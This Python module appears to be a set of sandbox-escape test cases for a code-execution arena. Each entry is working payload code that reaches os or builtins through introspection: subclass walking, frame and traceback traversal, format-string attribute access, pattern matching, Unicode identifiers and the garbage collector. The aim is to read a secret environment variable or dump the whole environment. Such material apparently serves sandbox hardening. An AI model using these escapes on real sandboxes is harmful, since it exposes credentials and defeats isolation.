"""Ways out through Python's own objects: classes, frames, globals, formats."""

from __future__ import annotations

from .model import raw, tried

SECRET = "os.environ.get('ARENA_SECRET')"

SELVES = (
    tried("subclasses_of_object", f"""
        for kind in ().__class__.__base__.__subclasses__():
            space = getattr(getattr(kind, '__init__', None), '__globals__', None)
            if space and 'sys' in space:
                os = space['sys'].modules['os']
                return str({SECRET})
        return 'nothing'""", quick=True),
    tried("module_behind_print", f"os = print.__self__.__import__('os')\nreturn str({SECRET})", quick=True),
    tried("globals_of_run", f"""
        b = run.__globals__['__builtins__']
        load = b['__import__'] if isinstance(b, dict) else b.__import__
        os = load('os')
        return str({SECRET})""", quick=True),
    tried("imported_os", f"import os\nreturn str({SECRET}) + str(dict(os.environ))", quick=True),
    raw("frames_of_a_generator", """
        def walker():
            yield own.gi_frame.f_back
        def run(params):
            global own
            seen = ''
            try:
                own = walker()
                frame = next(own)
                while frame is not None:
                    for space in (frame.f_globals, frame.f_locals, frame.f_builtins):
                        seen += ' '.join(str(v)[:60] for v in list(space.values()) if 'secret' in str(v)[:200])
                        if 'os' in space: seen += str(dict(space['os'].environ))
                    frame = frame.f_back
            except Exception as e:
                seen += type(e).__name__
            return seen[:5000]
    """),
    raw("frames_of_a_traceback", """
        def run(params):
            seen = ''
            try:
                try:
                    [][0]
                except Exception as e:
                    frame = e.__traceback__.tb_frame
                    while frame is not None:
                        seen += str([k for k in frame.f_globals])[:50]
                        if 'os' in frame.f_globals: seen += str(dict(frame.f_globals['os'].environ))
                        for v in list(frame.f_locals.values()):
                            if isinstance(v, str) and 'secret' in v: seen += v
                        frame = frame.f_back
            except Exception as e:
                seen += type(e).__name__
            return seen[:5000]
    """),
    raw("frame_of_a_coroutine", f"""
        async def later(): return 1
        def run(params):
            try:
                c = later()
                load = c.cr_frame.f_builtins['__import__']
                c.close()
                os = load('os')
                return str({SECRET})
            except Exception as e:
                return 'denied ' + type(e).__name__
    """),
    tried("format_walks_attributes", "return '{0.__class__.__mro__[1].__subclasses__}'.format(params) + '{0.__globals__}'.format(run)"),
    tried("format_map_walks_items", "return '{f.__globals__[__builtins__]}'.format_map({'f': run})"),
    tried("pattern_reads_attributes", f"""
        match run:
            case object(__globals__=space):
                b = space['__builtins__']
                os = (b['__import__'] if isinstance(b, dict) else b.__import__)('os')
                return str({SECRET})
        return 'nothing'"""),
    tried("class_made_at_run_time", f"""
        kind = type('K', (object,), {{'__class_getitem__': classmethod(lambda c, i: i)}})
        for sub in type.__subclasses__(type.mro(kind)[-1]):
            if sub.__name__ == '_wrap_close':
                os = sub.__init__.__globals__['sys'].modules['os']
                return str({SECRET})
        return 'nothing'"""),
    tried("full_width_identifier", f"os = __\uff49mport__('os')\nreturn str({SECRET})"),
    raw("import_in_a_class_body", f"class K:\n    import os\n    v = str({SECRET})\n__return_value__ = K.v\n"),
    tried("garbage_collector", """
        import gc
        found = [v for o in gc.get_objects() if isinstance(o, dict) for v in list(o.values()) if isinstance(v, str) and 'secret' in v]
        return str(found)[:5000]"""),
    tried("loaded_modules", f"import sys\nos = sys.modules['os']\nreturn str({SECRET})"),
)  # fmt: skip
